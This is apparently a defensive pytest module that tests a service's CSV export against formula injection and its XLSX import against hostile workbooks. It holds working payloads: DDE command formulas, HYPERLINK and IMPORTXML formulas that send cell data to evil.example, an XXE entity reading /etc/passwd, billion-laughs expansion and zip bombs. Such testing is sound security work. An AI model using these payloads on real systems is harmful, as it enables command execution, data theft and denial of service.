"""Files that come in and go out: bombs, entities, and formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from openpyxl import Workbook

from services.analytics.consumers import CONSUMER
from services.customer.imports.service import CUSTOMERS
from shared.events import customer as customers
from shared.imports.runner import ImportRunner
from shared.inbox.inbox import Inbox
from tests.integration.robustness.judging import LEAK
from tests.integration.robustness.worlds import World
from tests.support import generated
from tests.support.feeding import Feed
from tests.support.operations import Operation
from tests.support.services import ServiceUnderTest

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MEBIBYTE = 1024 * 1024
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"open")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=\u200b1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "==1",
    "+",
    "-",
    "@",
    "=",
    "%0A=1+1",
    'a","=1+1',
    'a"\r\n=1+1',
]
#: What a spreadsheet takes for the beginning of a formula.
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


# -- out -------------------------------------------------------------------------------------------


async def test_files_that_go_out_are_known(worlds: dict[str, World]) -> None:
    """A new export needs its formulas tested: it is named here once it is."""
    found = {
        operation.path
        for world in worlds.values()
        for operation in world.operations
        if operation.path.endswith(".csv") or media_of(operation) & {"text/csv", XLSX}
    }
    templates = {"/v1/customers/imports/template", "/v1/sales-history/imports/template"}
    assert found - templates == {"/v1/reports/cube.csv"}


def media_of(operation: Operation) -> set[str]:
    """The media types of what it answers when all is well."""
    return set(operation.description["responses"].get("200", {}).get("content", {}))


@pytest.fixture
async def named_by_formulas(analytics: ServiceUnderTest) -> ServiceUnderTest:
    """Reports about customers, regions and products whose names are formulas."""
    company = generated.World(days=30)
    for formula in FORMULAS:
        buyer = company.customer()
        state = buyer.model_dump() | {"name": formula, "region": formula, "industry": formula}
        changed = company.emit(customers.CustomerChanged, state, datetime(2025, 1, 31, tzinfo=UTC))
        company.order(changed)
    await Feed(Inbox(analytics.db, CONSUMER)).send_by_topic(company.envelopes())
    return analytics


@pytest.mark.parametrize("by", ["customer", "region", "industry", "customer,region,product"])
async def test_no_exported_cell_is_a_formula(named_by_formulas: ServiceUnderTest, by: str) -> None:
    """Text that begins like one is quoted; it is the same text still, and numbers are numbers."""
    async with named_by_formulas.client("general_manager") as client:
        query = {"measure": "orders", "by": by}
        answer = await client.get("/v1/reports/cube.csv", params=query)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    # Before a customer's name stands the number.
    labels = {row[f"{name}_label"] for row in rows for name in by.split(",")}
    labels |= {label.partition(" ")[2] for label in labels}
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(BEGINNINGS)] == []
    expected = FORMULAS if by == "customer" else [quoted(each) for each in FORMULAS]
    assert set(expected) <= labels
    assert all(float(row["amount"]) > 0 and int(row["facts"]) for row in rows)


def quoted(text: str) -> str:
    """A text as a spreadsheet shows it unchanged."""
    return f"'{text}" if text.startswith(BEGINNINGS) else text


# -- in --------------------------------------------------------------------------------------------


def workbook(**replaced: bytes) -> bytes:
    """A workbook with one customer, some of its parts replaced."""
    book, plain, made = Workbook(), io.BytesIO(), io.BytesIO()
    sheet: Any = book.active
    sheet.append(["name"])
    sheet.append(["深圳市进口有限公司"])
    book.save(plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            key = part.replace("/", "_").replace(".", "_")
            new.writestr(part, replaced.get(key, old.read(part)))
        for extra in replaced.keys() & {"bomb"}:
            new.writestr("xl/media/image1.png", replaced[extra])
    return made.getvalue()


def sheet_of(declared: str, cell: str) -> bytes:
    """A sheet with entities."""
    namespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return (
        f'<?xml version="1.0"?>{declared}<worksheet xmlns="{namespace}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>{cell}</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 10}">' for n in range(9))
ATTACKS = {
    "a bomb of one part": lambda: workbook(bomb=bytes(600 * MEBIBYTE)),
    "a bomb in the sheet": lambda: workbook(xl_worksheets_sheet1_xml=bytes(300 * MEBIBYTE)),
    "a file of the machine": lambda: workbook(
        xl_worksheets_sheet1_xml=sheet_of(
            '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', "&secret;"
        )
    ),
    "a file of another machine": lambda: workbook(
        xl_worksheets_sheet1_xml=sheet_of(
            '<!DOCTYPE x [<!ENTITY % far SYSTEM "http://127.0.0.1:1/x.dtd"> %far;]>', "x"
        )
    ),
    "a billion laughs": lambda: workbook(
        xl_worksheets_sheet1_xml=sheet_of(f"<!DOCTYPE x [{_LAUGHS}]>", "&l8;")
    ),
    "entities of the strings": lambda: workbook(
        xl_workbook_xml=sheet_of(f"<!DOCTYPE x [{_LAUGHS}]>", "&l8;")
    ),
    "no workbook": lambda: b"PK\x03\x04" + b"x" * 1000,
}


@pytest.mark.parametrize("attack", ATTACKS)
async def test_a_workbook_that_attacks_its_reader_brings_nothing(
    customer: ServiceUnderTest, attack: str
) -> None:
    """Refused at once, or an import that failed with a reason; no customer, no secret."""
    async with customer.client("administrator") as client:
        before = await count(client)
        files = {"file": ("customers.xlsx", ATTACKS[attack](), "application/octet-stream")}
        answer = await client.post("/v1/customers/imports", files=files)
        if answer.status_code == 202:
            await ImportRunner(customer.db, [CUSTOMERS]).work()
            answer = await client.get(answer.headers["location"])
            assert answer.json()["status"] == "failed", answer.text
        else:
            assert answer.status_code in (400, 413, 415, 422)
        assert "root:" not in answer.text
        assert not LEAK.search(answer.text)
        assert await count(client) == before


async def count(client: httpx.AsyncClient) -> int:
    """How many customers there are."""
    answer = await client.get("/v1/customers", params={"page_size": 200})
    return len(answer.json()["items"])


async def test_the_workbook_is_good_where_nothing_is_replaced(customer: ServiceUnderTest) -> None:
    """Else the attacks would be refused for another reason."""
    async with customer.client("administrator") as client:
        files = {"file": ("customers.xlsx", workbook(), "application/octet-stream")}
        answer = await client.post("/v1/customers/imports", files=files)
        await ImportRunner(customer.db, [CUSTOMERS]).work()
        job = await client.get(answer.headers["location"])
    assert (job.json()["status"], job.json()["created"]) == ("done", 1), job.text
